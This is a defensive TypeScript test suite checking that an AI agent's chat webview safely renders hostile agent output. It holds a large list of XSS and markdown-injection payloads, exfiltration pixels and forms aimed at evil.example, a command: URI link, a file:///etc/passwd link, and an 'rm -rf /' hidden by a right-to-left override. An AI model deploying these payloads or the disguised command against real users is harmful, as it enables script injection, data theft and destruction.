import assert from 'node:assert/strict';
import { SessionLog } from '../support/sessionLog.ts';
import { openWebviewPage, type WebviewPage } from '../support/webviewPage.ts';
import { useWebview } from '../support/webviewSuite.ts';

/** What an agent that was talked into attacking its user could write. `pwned` is what each would set. */
const ATTACKS = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<img src="https://evil.example/pixel.png?secret">',
  '![pixel](https://evil.example/pixel.png?secret)',
  '![x](https://evil.example/a.png "t\\" onerror=window.pwned=1")',
  '![x](data:image/svg+xml,<svg/onload=window.pwned=1>)',
  '[click](javascript:window.pwned=1)',
  '[click](JaVaScRiPt:window.pwned=1)',
  '[click](java&#10;script:window.pwned=1)',
  '[click](&#106;avascript:window.pwned=1)',
  '[click](vbscript:window.pwned=1)',
  '[click](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%22%7D)',
  '[click](vscode://sandpiper.sandpiper/accept)',
  '[click](data:text/html,<script>window.pwned=1</script>)',
  '[click](file:///etc/passwd)',
  '<a href="command:workbench.action.quit">quit</a> <a href="javascript:window.pwned=1">js</a>',
  '<svg onload="window.pwned=1"><a xlink:href="javascript:window.pwned=1"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=window.pwned=1></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<form action="https://evil.example/f"><input name="q" value="s"><button>Allow Once</button></form>',
  '<details open ontoggle="window.pwned=1"><summary>x</summary></details>',
  '<style>@import "https://evil.example/s.css"; body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/l.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/m">',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/bg)">cover</div>',
  '<button data-copy="x" class="primary" id="announcer">Allow Once</button>',
  '<p data-url="https://evil.example/d" role="link">x</p>',
  '<video src="https://evil.example/v" autoplay onloadstart="window.pwned=1"></video>',
  '<x onclick="window.pwned=1" onmouseover="window.pwned=1">hover</x>',
  '```html"><img src=x onerror=window.pwned=1>\n<script>window.pwned=1</script>\n```',
  '```js\n</code></pre><script>window.pwned=1</script>\n```',
  '`<img src=x onerror=window.pwned=1>`',
  '| <img src=x onerror=window.pwned=1> | [x](javascript:window.pwned=1) |\n|---|---|\n| <script>window.pwned=1</script> | y |',
  '[ref]: javascript:window.pwned=1\n\n[ref] and [x][ref]',
  '<https://evil.example/auto> <javascript:window.pwned=1>',
  '[https://github.com](https://evil.example/phish)',
  '[user](https://github.com@evil.example/)',
  '${window.pwned=1} {{constructor.constructor("window.pwned=1")()}}',
  '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
  '<textarea></textarea><template><script>window.pwned=1</script></template>',
  `${'> '.repeat(3000)}deep`,
  `${'['.repeat(3000)}x${']('.repeat(3000)}`,
  `${'*a'.repeat(5000)}`,
  `${'- '.repeat(500)}x`,
];

describe('hostile text of the agent', function () {
  this.timeout(120_000);
  const { browser, server } = useWebview();
  let chat: WebviewPage;

  beforeEach(async () => {
    chat = await openWebviewPage(browser(), server().url);
  });

  afterEach(async () => {
    await chat.close();
  });

  /** Everything at once, in every place where the page shows something that an agent chose. */
  function attackedSession(): SessionLog {
    const log = new SessionLog();
    log.ready();
    log.turn(1, ATTACKS.join('\n\n'));
    ATTACKS.forEach((attack, index) => {
      log.add({ type: 'textFinished', itemId: `text${index}`, text: { text: attack } });
      log.add({ type: 'thinkingFinished', itemId: `thinking${index}`, text: { text: attack } });
      log.tool(`bash${index}`, 'Bash', attack, { command: attack, description: attack }, attack);
      log.tool(`edit${index}`, 'Edit', attack, { file_path: attack, old_string: attack, new_string: 'x' }, attack);
      log.tool(`other${index}`, attack.slice(0, 60), attack, { [attack]: attack }, attack);
      log.add({ type: 'noticeRaised', level: 'warning', text: attack, hint: attack });
    });
    log.add({
      type: 'approvalAsked',
      approvalId: 'plan',
      kind: 'plan',
      name: 'ExitPlanMode',
      title: 'Plan',
      input: { text: JSON.stringify({ plan: ATTACKS.join('\n\n') }) },
      canAlwaysAllow: false,
    });
    return log;
  }

  async function assertUnharmed(): Promise<void> {
    assert.equal(await chat.page.evaluate(() => Reflect.get(window, 'pwned')), undefined);
    assert.deepEqual(chat.requests, []);
    assert.deepEqual(chat.problems, []);
    const foreign = await chat.page
      .locator(
        '#root :is(script, iframe, object, embed, form form, style, link, base, meta, math, video, template, [style], [href], [src], [onerror], [onclick])',
      )
      .count();
    assert.equal(foreign, 0);
    const depth = await chat.page.evaluate(() => {
      let deepest: Element[] = [document.documentElement];
      let levels = 0;
      for (; deepest.length > 0; levels++) {
        deepest = deepest.flatMap(element => [...element.children]);
      }
      return levels;
    });
    assert.ok(depth < 120, `${depth} elements inside each other`);
  }

  it('runs nothing, asks the network for nothing and adds no element of its own', async () => {
    const log = attackedSession();
    await chat.tell({ type: 'open', sessionId: log.id, state: log.state, live: [] });
    await chat.page.locator('[data-approval]').waitFor();
    await chat.page.evaluate(() => document.querySelectorAll('details').forEach(details => (details.open = true)));
    await chat.page.locator('.hljs-comment, .hljs-string, [class^=hljs]').first().waitFor();
    await assertUnharmed();
    await chat.page.getByRole('button', { name: 'Show earlier' }).click();
    await chat.page.evaluate(() => document.querySelectorAll('details').forEach(details => (details.open = true)));
    await assertUnharmed();
  });

  it('does so while it is being written, whatever the pieces', async () => {
    const log = new SessionLog();
    log.ready();
    log.turn(1, 'Go');
    await chat.tell({ type: 'open', sessionId: log.id, state: log.state, live: [] });
    const text = ATTACKS.filter(attack => attack.length < 1000).join('\n\n');
    const delta = { type: 'delta', sessionId: log.id, itemId: 'x', kind: 'text' } as const;
    for (let offset = 0; offset < text.length; offset += 7) {
      await chat.tell({ ...delta, offset, text: text.slice(offset, offset + 7) });
    }
    await chat.page.locator('.answer', { hasText: 'constructor.constructor' }).waitFor();
    await assertUnharmed();
    await chat.tell({
      type: 'events',
      sessionId: log.id,
      events: log.add({ type: 'textFinished', itemId: 'x', text: { text } }),
    });
    await chat.page.locator('.answer:not(.live)').waitFor();
    await assertUnharmed();
  });

  it('opens no link without showing where it leads, and none but to the web', async () => {
    const log = new SessionLog();
    log.ready();
    log.turn(1, 'Go');
    for (const [index, attack] of ATTACKS.entries()) {
      log.add({ type: 'textFinished', itemId: `text${index}`, text: { text: attack } });
    }
    await chat.tell({ type: 'open', sessionId: log.id, state: log.state, live: [] });
    const links = chat.page.locator('.answer a');
    await links.first().waitFor();
    const urls = await links.evaluateAll(all => all.map(link => link.getAttribute('data-url') ?? 'file'));
    assert.ok(urls.length > 3);
    for (const url of urls) {
      assert.match(url, /^(https:\/\/evil\.example\/|file$)/);
    }
    await chat.page.locator('.answer a', { hasText: 'https://github.com' }).click();
    const dialog = chat.page.getByRole('dialog');
    assert.match(await dialog.innerText(), /Open evil\.example\?/);
    assert.match(await dialog.innerText(), /https:\/\/evil\.example\/phish/);
    await chat.page.keyboard.press('Enter');
    await dialog.waitFor({ state: 'detached' });
    assert.deepEqual(chat.asked('openExternal'), [], 'Enter alone opens nothing');
    await chat.page.locator('.answer a', { hasText: 'https://github.com' }).click();
    await dialog.getByRole('button', { name: 'Open Link' }).click();
    await dialog.waitFor({ state: 'detached' });
    assert.deepEqual(chat.asked('openExternal'), [{ url: 'https://evil.example/phish' }]);
    await assertUnharmed();
  });

  it('shows the characters of a command that would not be seen', async () => {
    const log = new SessionLog();
    log.ready();
    log.turn(1, 'Go');
    log.add({
      type: 'approvalAsked',
      approvalId: 'a',
      kind: 'tool',
      name: 'Bash',
      title: 'ls',
      input: { text: JSON.stringify({ command: 'ls \u202e/ fr- mr\u202c\u200b' }) },
      canAlwaysAllow: false,
    });
    await chat.tell({ type: 'open', sessionId: log.id, state: log.state, live: [] });
    const command = await chat.page.locator('[data-approval] .command').innerText();
    assert.equal(command, 'ls U+202E/ fr- mrU+202CU+200B');
  });
});
